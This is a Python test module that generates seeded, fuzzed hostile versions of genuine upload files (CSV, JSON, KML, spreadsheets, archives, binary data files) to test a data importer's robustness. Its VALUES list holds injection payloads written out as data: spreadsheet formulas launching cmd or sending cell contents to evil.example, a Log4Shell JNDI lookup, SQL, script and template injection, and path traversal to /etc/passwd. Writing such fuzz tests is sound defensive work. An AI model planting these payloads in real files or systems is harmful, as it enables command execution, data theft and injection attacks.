"""What damage and malice make of a genuine file: bytes, encodings, cells, members and values changed, seeded."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from random import Random
from typing import Any, NamedTuple

from tests.hostile.genuine import Genuine, genuine, workbook, zipped


class Hostile(NamedTuple):
    """A hostile file: its name, its bytes, and what was done to which kind of file."""

    name: str
    content: bytes
    what: str


VALUES = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x1b[2J\x1b]0;OWNED\x07",
    "\x7f\x08\x0b",
    "\u202eevil\u2066",
    "\u200b\ufeff",
    "\ufffd",
    "\U0010ffff",
    "é" * 50,
    "a\u0301" * 200,
    "x" * 40_000,
    "\u0661\u0662\u0663",
    "\uff11\uff12",
    "²",
    "1e400",
    "-1e400",
    "NaN",
    "nan",
    "Infinity",
    "-inf",
    "-0",
    "-0.0",
    "1_000",
    "0x1F",
    "1e-400",
    "9" * 400,
    "9" * 5_000,
    "1." + "0" * 400,
    "9223372036854775808",
    "99999999999999999999.5",
    "0000-00-00",
    "0000-01-01",
    "9999-12-31",
    "9999-12-31T23:59:59+00:00",
    "0001-01-01T00:00:00+14:00",
    "275760-09-13",
    "2024-02-30",
    "2024-01-06T25:61:61Z",
    "99/99/9999",
    "31/12/0000",
    "\u0662\u0660\u0662\u0666-\u0660\u0663-\u0660\u0661",
    "\u0663\u0661/\u0660\u0663/\u0662\u0660\u0662\u0666",
    "1900-01",
    "now",
    "today",
    '=HYPERLINK("https://evil.example/?x="&A1,"ok")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '"',
    '""',
    "'",
    "','; DROP TABLE stops; --",
    "![](https://evil.example/beacon.png)",
    "[x](javascript:alert(1))",
    "<script>alert(1)</script>",
    '<img src="https://evil.example/x.png">',
    "<a href='https://evil.example'>x</a>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{rows} {0} {__class__}",
    "%s%s%n",
    "../../etc/passwd",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "https://evil.example/crs",
    "E01000001",
    "E05000026",
    "e05000026",
    "E0500002\uff16",
    "W01000001",
    "S01000001",
    "E99999999",
    "True",
    "TRUE",
    "None",
    "null",
    "c",
    "surrey",
    "Surrey Police",
    "metropolitan",
)
"""Texts that a cell may hold to do harm."""

NODES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    10**30,
    -(10**30),
    1e308,
    -1e308,
    5e-324,
    float("nan"),
    float("inf"),
    float("-inf"),
    "",
    "\ud800",
    "\udfff half",
    [],
    {},
    [[]],
    [[[]]],
    [[[[]]]],
    {"a": {"b": []}},
    {"": None},
    {"type": "Polygon", "coordinates": [[[0, 0]]]},
    {"type": "GeometryCollection", "geometries": []},
    {"type": "Point", "coordinates": [0, 0]},
    {"type": "Polygon", "coordinates": []},
    [0, 0, 0, 0],
)
"""What a place in JSON may hold to do harm."""

ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-7", "utf-32", "utf-8-sig", "latin-1", "cp037")
_TOKENS = (
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b'"',
    b"\r",
    b"\n\n",
    b"\x1a",
    b",,,,,",
    b"\x85",
    b"\xe2\x80\xa8",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"PK\x03\x04",
    b"\x1f\x8b",
    b"$FL2",
    b"SQLite format 3\x00",
    b"<!DOCTYPE x>",
    b"]]>",
    b"{",
    b"[",
)


def mutated(seed: int, each: int) -> Iterator[Hostile]:
    """So many hostile files of every genuine one."""
    number = 0
    for file in genuine():
        ways = _ways(file)
        for turn in range(each):
            random = Random(f"{seed} {file.kind} {turn}")  # noqa: S311 - no secret
            name, change = ways[turn % len(ways)]
            content, mapping = change(file, random)
            shown, whole = file.as_upload(number, content, mapping)
            yield Hostile(shown, whole, f"{file.kind}: {name}")
            number += 1


Change = Callable[[Genuine, Random], tuple[bytes, bytes | None]]


def _ways(file: Genuine) -> list[tuple[str, Change]]:
    ways: list[tuple[str, Change]] = [("bytes", _bytes), ("bytes", _bytes)]
    if file.ending in (".csv", ".tsv", ".tab"):
        ways += [("a cell", _cells), ("a cell", _cells), ("shape of the table", _table), ("encoding", _encoded)]
    if file.ending in (".json", ".geojson"):
        ways += [("a node", _nodes), ("a node", _nodes), ("encoding", _encoded)]
    if file.ending == ".kml":
        ways += [("text", _text), ("encoding", _encoded)]
    if file.ending in (".xlsx", ".zip"):
        ways += [("a member", _members)]
    if file.ending == ".xlsx":
        ways += [("a cell", _workbook_cells)]
    if file.ending in (".sav", ".zsav", ".gpkg"):
        ways += [("a number", _numbers), ("a number", _numbers)]
    if file.mapping:
        ways += [("its mapping", _mapping)]
    return ways


def _bytes(file: Genuine, random: Random) -> tuple[bytes, None]:
    return damaged(file.content, random), None


def damaged(content: bytes, random: Random) -> bytes:
    """Bytes cut short, flipped, moved, repeated or put in."""
    made = bytearray(content or b" ")
    place = random.randrange(len(made) + 1)
    end = min(len(made), place + random.randrange(1, 200))
    way = random.randrange(8)
    if way == 0:
        del made[place:]
    elif way in (1, 2):
        for _ in range(random.choice((1, 1, 3, 20, 200))):
            made[random.randrange(len(made))] ^= 1 << random.randrange(8)
    elif way == 3:
        del made[place:end]
    elif way == 4:
        made[place:place] = random.choice(_TOKENS) * random.choice((1, 1, 2, 50))
    elif way == 5:
        made[place:end] = random.randbytes(end - place)
    elif way == 6:
        made[place:place] = made[place:end] * random.choice((1, 2, 30))
    else:
        made = made[place:] + made[:place]
    return bytes(made)


def _text(file: Genuine, random: Random) -> tuple[bytes, None]:
    content = file.content.decode()
    place = random.randrange(len(content))
    return (content[:place] + random.choice(VALUES) + content[place:]).encode("utf-8", "replace"), None


def _encoded(file: Genuine, random: Random) -> tuple[bytes, None]:
    text = file.content.decode("utf-8-sig")
    if random.random() < 0.2:
        half = len(text) // 2
        return text[:half].encode("utf-8") + text[half:].encode("utf-16"), None
    if random.random() < 0.2:
        return b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode(), None
    return text.encode(random.choice(ENCODINGS), "replace"), None


def _delimiter(file: Genuine) -> str:
    line = file.content.partition(b"\n")[0].decode("utf-8-sig")
    return max(",;\t|", key=line.count)


def _grid(file: Genuine) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline=""), delimiter=_delimiter(file)))


def _written(grid: list[list[str]], delimiter: str) -> bytes:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter).writerows(grid)
    return text.getvalue().encode("utf-8", "replace")


def _cells(file: Genuine, random: Random) -> tuple[bytes, None]:
    grid = _grid(file)
    for _ in range(random.choice((1, 1, 2, 5))):
        row = random.choice(grid[random.random() < 0.9 :])
        if row:
            row[random.randrange(len(row))] = random.choice(VALUES)
    return _written(grid, _delimiter(file)), None


def _table(file: Genuine, random: Random) -> tuple[bytes, None]:
    grid = _grid(file)
    place = random.randrange(len(grid))
    width = len(grid[0])
    column = random.randrange(max(width, 1))
    way = random.randrange(9)
    if way == 0:
        grid[place] = [*grid[place], "surplus"]
    elif way == 1:
        grid[place] = grid[place][:-1]
    elif way == 2:
        grid = grid[:1]
    elif way == 3:
        grid = [[*row, *row] for row in grid]
    elif way == 4:
        grid = [row[:column] + row[column + 1 :] for row in grid]
    elif way == 5:
        grid[1:] = [["" for _ in row] for row in grid[1:]]
    elif way == 6:
        grid = [grid[0], *(grid[1:] * 3)]
    elif way == 7:
        value = random.choice(VALUES)
        grid[1:] = [[*row[:column], value, *row[column + 1 :]] for row in grid[1:]]
    else:
        grid = [[*row, *[f"column {n}" if not place else "1" for n in range(300)]] for place, row in enumerate(grid)]
    return _written(grid, _delimiter(file)), None


def _nodes(file: Genuine, random: Random) -> tuple[bytes, None]:
    value = json.loads(file.content)
    for _ in range(random.choice((1, 1, 2, 4))):
        places = list(_places(value))
        holder, key = random.choice(places)
        holder[key] = random.choice((*NODES, *VALUES))
    return json.dumps(value).encode(), None


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    for key in list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ():
        yield value, key
        yield from _places(value[key])


def _members(file: Genuine, random: Random) -> tuple[bytes, None]:
    with zipfile.ZipFile(io.BytesIO(file.content)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = random.choice(list(members))
    if random.random() < 0.15:
        del members[name]
    else:
        members[name] = damaged(members[name] or b"x", random)
    return zipped(members), None


def _workbook_cells(file: Genuine, random: Random) -> tuple[bytes, None]:
    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(file.content)).worksheets[0]
    grid = [list(row) for row in sheet.iter_rows(values_only=True)]
    for _ in range(random.choice((1, 2, 5))):
        row = random.choice(grid)
        row[random.randrange(len(row))] = _short(random.choice((*VALUES, True, 1.5, 10**14, -0.0)))
    return workbook(grid), None


def _short(value: Any) -> Any:
    return value[:32_000] if isinstance(value, str) else value


def _numbers(file: Genuine, random: Random) -> tuple[bytes, None]:
    """A whole number in the head of a binary file made huge, negative or 0."""
    made = bytearray(file.content)
    for _ in range(random.choice((1, 2))):
        place = random.randrange(max(1, len(made) - 8)) & ~3
        number = random.choice((0, 1, -1, 2**31 - 1, -(2**31), 2**24, 255, 65_536))
        made[place : place + 4] = number.to_bytes(4, random.choice(("little", "big")), signed=True)
    return bytes(made), None


def _mapping(file: Genuine, random: Random) -> tuple[bytes, bytes]:
    if random.random() < 0.4:
        return file.content, damaged(file.mapping, random)
    lines = file.mapping.decode().splitlines()
    place = random.randrange(len(lines))
    key = lines[place].partition("=")[0]
    value = random.choice(VALUES)
    lines[place] = f"{key}= {random.choice((json.dumps(value), value, '[' * 50, '{}', '1e400', '9' * 400, '-0'))}"
    return file.content, "\n".join(lines).encode("utf-8", "replace")
